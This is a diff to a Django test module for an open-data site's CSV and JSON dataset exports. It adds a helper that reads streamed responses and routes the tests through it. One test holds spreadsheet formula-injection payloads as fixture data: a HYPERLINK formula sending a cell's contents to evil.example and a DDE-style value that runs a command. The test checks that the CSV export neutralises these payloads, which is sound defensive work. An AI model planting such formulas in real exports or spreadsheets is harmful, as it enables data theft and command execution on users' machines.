@@ -15,6 +15,7 @@ from opendata.serializers import ArticleSerializer, InitiativeSerializer
 from places.models import Area
 from tests.initiatives.factories import InitiativeFactory, SupportFactory
 from tests.knowledgebase.factories import ArticleFactory
+from tests.streams import body, text
 
 pytestmark = pytest.mark.django_db
 
@@ -24,6 +25,13 @@ EXPORTS = [(what, fmt) for what in FIELDS for fmt in ("csv", "json")]
 
 def url(what, fmt):
     return reverse("opendata:dataset_download", args=[what, fmt])
+
+
+def read(client, address):
+    """The response, read to its end (a streamed export runs its queries while it is read)."""
+    response = client.get(address)
+    body(response)
+    return response
 
 
 @pytest.fixture
@@ -72,7 +80,7 @@ def test_an_export_is_an_attachment_any_site_may_fetch(client, content, what, fm
 
 @pytest.mark.parametrize("what", list(FIELDS))
 def test_the_csv_header_is_the_serializers_fields_then_one_row_per_published_item(client, content, what):
-    rows = list(csv.reader(io.StringIO(client.get(url(what, "csv")).content.decode("utf-8"))))
+    rows = list(csv.reader(io.StringIO(text(client.get(url(what, "csv"))))))
 
     assert rows[0] == list(FIELDS[what])
     slug = rows[0].index("slug")
@@ -81,7 +89,7 @@ def test_the_csv_header_is_the_serializers_fields_then_one_row_per_published_ite
 
 
 def test_the_csv_flattens_places_and_lists_into_readable_cells(client, content):
-    rows = list(csv.DictReader(io.StringIO(client.get(url("initiatieven", "csv")).content.decode("utf-8"))))
+    rows = list(csv.DictReader(io.StringIO(text(client.get(url("initiatieven", "csv"))))))
 
     speeltuin = rows[0]
     assert speeltuin["area"] == "Wehl"
@@ -101,20 +109,20 @@ def test_the_csv_writes_what_a_spreadsheet_would_run_as_text(client):
         tags=["+thema"],
     )
 
-    [row] = csv.DictReader(io.StringIO(client.get(url("initiatieven", "csv")).content.decode("utf-8")))
+    [row] = csv.DictReader(io.StringIO(text(client.get(url("initiatieven", "csv")))))
 
     assert row["title"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
     assert row["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
     assert row["themes"] == "'+thema"
     assert row["support_count"] == "0"
     # The JSON is data for programs, not for spreadsheets: it keeps the text as it is.
-    [item] = json.loads(client.get(url("initiatieven", "json")).content)
+    [item] = json.loads(text(client.get(url("initiatieven", "json"))))
     assert item["title"].startswith("=HYPERLINK")
 
 
 @pytest.mark.parametrize("what", list(FIELDS))
 def test_the_json_parses_to_the_serializers_fields_for_each_published_item(client, content, what):
-    data = json.loads(client.get(url(what, "json")).content)
+    data = json.loads(text(client.get(url(what, "json"))))
 
     assert isinstance(data, list)
     assert [item["slug"] for item in data] == PUBLISHED[what]
@@ -123,7 +131,7 @@ def test_the_json_parses_to_the_serializers_fields_for_each_published_item(clien
 
 
 def test_the_json_keeps_structure_the_csv_flattens(client, content):
-    [speeltuin, _moestuin] = json.loads(client.get(url("initiatieven", "json")).content)
+    [speeltuin, _moestuin] = json.loads(text(client.get(url("initiatieven", "json"))))
 
     assert speeltuin["area"] == {"slug": "wehl", "name": "Wehl", "kind": "village"}
     assert sorted(speeltuin["themes"]) == ["groen", "spelen"]
@@ -154,8 +162,8 @@ def test_an_export_costs_the_same_for_few_items_as_for_many(client, what, fmt, c
             ArticleFactory(tags=["groen"], initiative=initiative, area=initiative.area)
 
     fill(3)
-    few = count_queries(lambda: client.get(url(what, fmt)))
+    few = count_queries(lambda: read(client, url(what, fmt)))
     fill(30)
 
-    assert count_queries(lambda: client.get(url(what, fmt))) == few
+    assert count_queries(lambda: read(client, url(what, fmt))) == few
     assert few <= EXPORT_QUERIES_AT_MOST
